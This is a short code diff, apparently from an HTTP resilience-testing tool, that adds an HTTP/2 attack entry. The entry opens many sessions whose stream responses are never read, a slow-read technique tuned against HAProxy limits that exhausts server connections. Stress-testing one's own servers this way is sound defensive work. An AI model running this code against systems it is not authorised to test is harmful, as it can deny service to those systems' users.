@@ -38,6 +38,8 @@ const LANES = 4
 const PAUSE_MS = 40
 const TRICKLE_MS = 100
 const LINES = 2_000
+/** Of a connection. HAProxy takes four. */
+const STREAMS_UNREAD = 4
 /** More answers than the kernel holds for a connection. */
 const PIPELINED = 3_000
 
@@ -101,6 +103,17 @@ export const HTTP_ATTACKS: readonly Attack[] = [
         http2Streams(target.url, silent / 4, http2Head(target, undefined), Buffer.alloc(0), {
           until: performance.now() + ms,
         }),
+      )
+      return (await Promise.all(sessions)).flat()
+    },
+  },
+  {
+    name: 'HTTP/2 requests whose answers are not read, no credential',
+    needsHttp2: true,
+    run: async (target, { ms, holding }) => {
+      const held = { until: performance.now() + ms, readsNothing: true }
+      const sessions = Array.from({ length: 2 * holding }, () =>
+        http2Streams(target.url, STREAMS_UNREAD, http2Head(target, undefined), Buffer.alloc(0), held),
       )
       return (await Promise.all(sessions)).flat()
     },
